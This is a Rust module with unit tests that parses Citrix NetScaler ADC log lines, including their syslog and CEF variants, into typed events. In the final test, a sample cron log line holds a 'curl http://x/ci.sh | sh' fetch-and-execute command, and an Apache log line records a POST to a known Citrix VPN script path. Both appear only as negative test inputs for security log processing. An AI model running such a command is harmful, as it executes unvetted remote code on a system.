//! Parse: raw record bytes → a borrowed [`AdcEvent`], or a [`ParseError`] that says why not.
//!
//! A record is one line as an ADC (or a relay in front of it) sent it: an optional syslog envelope
//! ([`syslog`]: RFC 3164, RFC 5424, RFC 3339-stamped relays, or none) around a NetScaler payload
//! ([`netscaler`]: the native `date:time [GMT] host 0-PPE-n : [partition] FEATURE EVENT seq [0] : body`
//! header, its headerless and legacy variants, or the CEF form). Fields borrow from the record; nothing
//! is allocated on success. Body fields (users, addresses, counters) are not taken apart here.

pub mod netscaler;
pub mod syslog;
pub mod time;

use chrono::{DateTime, Utc};

/// Why a record is not an event. Each variant has a fixed [`ParseError::code`] for metrics and the DLQ.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ParseError {
    #[error("empty record")]
    Empty,
    #[error("record of {len} bytes exceeds parse.max_line ({max} bytes)")]
    TooLong { len: usize, max: usize },
    #[error("record is not UTF-8 (invalid byte at offset {offset})")]
    NotUtf8 { offset: usize },
    #[error("no NetScaler header or CEF payload found")]
    Unrecognised,
}

impl ParseError {
    /// A short, bounded identifier: safe as a metric label, stable for DLQ consumers.
    pub fn code(&self) -> &'static str {
        match self {
            ParseError::Empty => "empty",
            ParseError::TooLong { .. } => "too_long",
            ParseError::NotUtf8 { .. } => "not_utf8",
            ParseError::Unrecognised => "unrecognised",
        }
    }

    pub const CODES: [&'static str; 4] = ["empty", "too_long", "not_utf8", "unrecognised"];
}

/// The payload shape the record carried.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PayloadFormat {
    Native,
    Cef,
}

/// Which clock `AdcEvent::timestamp` came from, most to least precise.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TimestampSource {
    /// The NetScaler header carried a full date and time.
    Header,
    /// The syslog envelope (relay) timestamp.
    Envelope,
    /// Neither carried a date: the Kafka record timestamp (or the time of processing).
    Record,
}

/// One parsed ADC log line; every `&str` borrows from the record.
#[derive(Debug, Clone, PartialEq)]
pub struct AdcEvent<'a> {
    pub timestamp: DateTime<Utc>,
    pub timestamp_source: TimestampSource,
    /// The header time had no `GMT` marker: appliance local time, read as UTC until a per-appliance
    /// time zone is configured.
    pub local_time: bool,
    pub original: &'a str,
    pub envelope: syslog::Envelope<'a>,
    /// The NetScaler (or CEF) header and the body after it.
    pub header: netscaler::Payload<'a>,
}

impl AdcEvent<'_> {
    /// The appliance this event came from: the NetScaler host name, else the relay-reported host.
    pub fn appliance(&self) -> Option<&str> {
        self.header.hostname.or(self.envelope.hostname)
    }
}

/// Limits applied before any parsing.
#[derive(Debug, Clone, Copy)]
pub struct Limits {
    pub max_line: usize,
}

/// Parses one record. `received` dates lines whose envelope and header carry no (full) date, and
/// completes year-less BSD timestamps.
///
/// ```
/// use chrono::Utc;
/// use gatewatch::parse::{parse, Limits};
///
/// let line = b"<134> 01/10/2020:08:57:43 GMT vpx01 0-PPE-0 : default SSLVPN LOGIN 42 0 : User alice";
/// let event = parse(line, Utc::now(), Limits { max_line: 65536 }).unwrap();
/// assert_eq!(event.appliance(), Some("vpx01"));
/// assert_eq!((event.header.feature, event.header.name, event.header.message), (Some("SSLVPN"), "LOGIN", "User alice"));
/// assert_eq!(event.timestamp.to_rfc3339(), "2020-01-10T08:57:43+00:00");
/// assert_eq!(parse(b"", Utc::now(), Limits { max_line: 65536 }).unwrap_err().code(), "empty");
/// ```
pub fn parse<'a>(bytes: &'a [u8], received: DateTime<Utc>, limits: Limits) -> Result<AdcEvent<'a>, ParseError> {
    if bytes.len() > limits.max_line {
        return Err(ParseError::TooLong { len: bytes.len(), max: limits.max_line });
    }
    let text = std::str::from_utf8(bytes).map_err(|e| ParseError::NotUtf8 { offset: e.valid_up_to() })?;
    let line = text.trim_end_matches(['\r', '\n', '\0']);
    if line.trim().is_empty() {
        return Err(ParseError::Empty);
    }
    let (envelope, payload) = syslog::split(line, received);
    let payload = netscaler::parse(payload, envelope.timestamp.unwrap_or(received)).ok_or(ParseError::Unrecognised)?;
    let (timestamp, timestamp_source) = match (payload.timestamp, envelope.timestamp) {
        (Some(netscaler::HeaderTime::Full(t)), _) => (t, TimestampSource::Header),
        (Some(netscaler::HeaderTime::TimeOfDay(t)), Some(_)) => (t, TimestampSource::Envelope),
        (Some(netscaler::HeaderTime::TimeOfDay(t)), None) => (t, TimestampSource::Record),
        (None, Some(t)) => (t, TimestampSource::Envelope),
        (None, None) => (received, TimestampSource::Record),
    };
    Ok(AdcEvent {
        timestamp,
        timestamp_source,
        local_time: payload.timestamp.is_some() && !payload.gmt,
        original: line,
        envelope,
        header: payload,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    const LIMITS: Limits = Limits { max_line: 65536 };

    fn received() -> DateTime<Utc> {
        Utc.with_ymd_and_hms(2024, 8, 10, 12, 0, 0).unwrap()
    }

    fn ok(line: &str) -> AdcEvent<'_> {
        parse(line.as_bytes(), received(), LIMITS).unwrap_or_else(|e| panic!("{e}: {line}"))
    }

    #[test]
    fn rejects_empty_binary_and_oversized_records_with_reasons() {
        assert_eq!(parse(b"", received(), LIMITS), Err(ParseError::Empty));
        assert_eq!(parse(b"  \r\n", received(), LIMITS), Err(ParseError::Empty));
        assert_eq!(parse(b"ab\xff\xfe", received(), LIMITS), Err(ParseError::NotUtf8 { offset: 2 }));
        let long = vec![b'a'; 70_000];
        assert_eq!(parse(&long, received(), LIMITS), Err(ParseError::TooLong { len: 70_000, max: 65536 }));
        assert_eq!(parse(b"hello world", received(), LIMITS), Err(ParseError::Unrecognised));
    }

    #[test]
    fn native_line_with_pri_and_gmt() {
        let e = ok("<134> 09/09/2024:20:46:07 GMT PRODSY3VPX01 0-PPE-1 : default SSLVPN UDPFLOWSTAT 4783495 0 : Context a@b - SessionId: 1234");
        assert_eq!(e.timestamp, Utc.with_ymd_and_hms(2024, 9, 9, 20, 46, 7).unwrap());
        assert_eq!(e.timestamp_source, TimestampSource::Header);
        assert!(!e.local_time);
        assert_eq!(e.envelope.priority, Some(134));
        assert_eq!(e.header.hostname, Some("PRODSY3VPX01"));
        assert_eq!(e.header.ppe, Some("0-PPE-1"));
        assert_eq!(e.header.partition, Some("default"));
        assert_eq!(e.header.feature, Some("SSLVPN"));
        assert_eq!(e.header.name, "UDPFLOWSTAT");
        assert_eq!(e.header.sequence, Some(4783495));
        assert_eq!(e.header.message, "Context a@b - SessionId: 1234");
    }

    #[test]
    fn bsd_relay_with_facility_token_and_event_name_with_space() {
        let e = ok("Jun 22 19:14:37 <local0.info> 81.2.69.144 06/22/2015:19:14:37 GMT ns 0-PPE-1 : default APPFW APPFW_cross-site scripting 60 0 : 175.16.199.1 616-PPE1 y/3u");
        assert_eq!(e.envelope.hostname, Some("81.2.69.144"));
        assert_eq!(e.envelope.facility, Some(16));
        assert_eq!(e.envelope.severity, Some(6));
        assert_eq!(e.header.hostname, Some("ns"));
        assert_eq!(e.header.name, "APPFW_cross-site scripting");
        assert_eq!(e.timestamp, Utc.with_ymd_and_hms(2015, 6, 22, 19, 14, 37).unwrap());
    }

    #[test]
    fn legacy_ppe_without_partition_or_second_integer() {
        let e = ok("10/03/2013:16:49:07 GMT dk-lb001a PPE-4 : UI CMD_EXECUTED 10367926 : User so_readonly - Remote_ip 10.70.66.56 - Command \"stat lb vserver\" - Status \"Success\"");
        assert_eq!(e.header.hostname, Some("dk-lb001a"));
        assert_eq!(e.header.ppe, Some("PPE-4"));
        assert_eq!(e.header.partition, None);
        assert_eq!((e.header.feature, e.header.name, e.header.sequence), (Some("UI"), "CMD_EXECUTED", Some(10367926)));
    }

    #[test]
    fn sdx_svm_service_relay_and_day_first_date() {
        let e = ok("<134>Jun 18 18:18:42 svm_service: 1.1.1.1  18/06/2020:16:18:42 GMT mynetscaler2 0-PPE-0 : GUI CMD_EXECUTED : User nsroot - Remote_ip 10.55.1.100");
        assert_eq!(e.envelope.appname, Some("svm_service"));
        assert_eq!(e.envelope.hostname, Some("1.1.1.1"));
        assert_eq!(e.header.hostname, Some("mynetscaler2"));
        assert_eq!(e.timestamp, Utc.with_ymd_and_hms(2020, 6, 18, 16, 18, 42).unwrap());
        assert_eq!(e.header.sequence, None);
    }

    #[test]
    fn rfc3339_relay_and_year_first_date() {
        let e = ok("2023-08-01T00:14:15.285005+00:00 172.17.7.7  2023/08/01:00:14:15 GMT mpx2 0-PPE-1 : default SSLVPN LOGIN 18219290 0 : Context x");
        assert_eq!(e.envelope.hostname, Some("172.17.7.7"));
        assert_eq!(e.header.hostname, Some("mpx2"));
        assert_eq!(e.timestamp, Utc.with_ymd_and_hms(2023, 8, 1, 0, 14, 15).unwrap());
    }

    #[test]
    fn time_of_day_only_takes_the_date_from_the_record() {
        let e = ok("06:29:05 GMT mymachine 0-PPE-1 : default EVENT MONITORUP 1141302652 0 : Monitor up");
        assert_eq!(e.timestamp, Utc.with_ymd_and_hms(2024, 8, 10, 6, 29, 5).unwrap());
        assert_eq!(e.timestamp_source, TimestampSource::Record);
    }

    #[test]
    fn headerless_bodies() {
        let e = ok("<135> default CMD_EXECUTED 4123456 0 :  User nsroot - Command \"show ns capacity\"");
        assert_eq!((e.header.partition, e.header.feature, e.header.name), (Some("default"), None, "CMD_EXECUTED"));
        assert_eq!(e.timestamp_source, TimestampSource::Record);
        let e = ok("[289]: AAA Message : In receive_ldap_user_search_event: user not found");
        assert_eq!((e.header.feature, e.header.name), (Some("AAA"), "Message"));
        assert_eq!(e.header.message, "In receive_ldap_user_search_event: user not found");
    }

    #[test]
    fn cef_behind_bsd_relay() {
        let e = ok("Jun 12 23:37:17 <local0.info> 81.2.69.144 CEF:0|Citrix|NetScaler|NS11.0|APPFW|APPFW_STARTURL|6|src=175.16.199.1 spt=47606 method=GET");
        assert_eq!(e.header.format, PayloadFormat::Cef);
        assert_eq!((e.header.feature, e.header.name), (Some("APPFW"), "APPFW_STARTURL"));
        assert_eq!(e.header.cef_severity, Some("6"));
        assert_eq!(e.appliance(), Some("81.2.69.144"));
        assert_eq!(e.header.message, "src=175.16.199.1 spt=47606 method=GET");
        // June 12 is before the record's August date, so it stays in the record's year.
        assert_eq!(e.timestamp, Utc.with_ymd_and_hms(2024, 6, 12, 23, 37, 17).unwrap());
    }

    #[test]
    fn cron_and_apache_lines_are_not_netscaler_payloads() {
        for line in [
            "Jan 19 23:00:06 <cron.info> Stage-NS01 /usr/sbin/cron[14451]: (nobody) CMD (curl http://x/ci.sh | sh)",
            "192.168.0.4 - - [28/Nov/2019:22:28:20 +0000] \"POST /vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 135",
        ] {
            assert_eq!(parse(line.as_bytes(), received(), LIMITS), Err(ParseError::Unrecognised), "{line}");
        }
    }
}
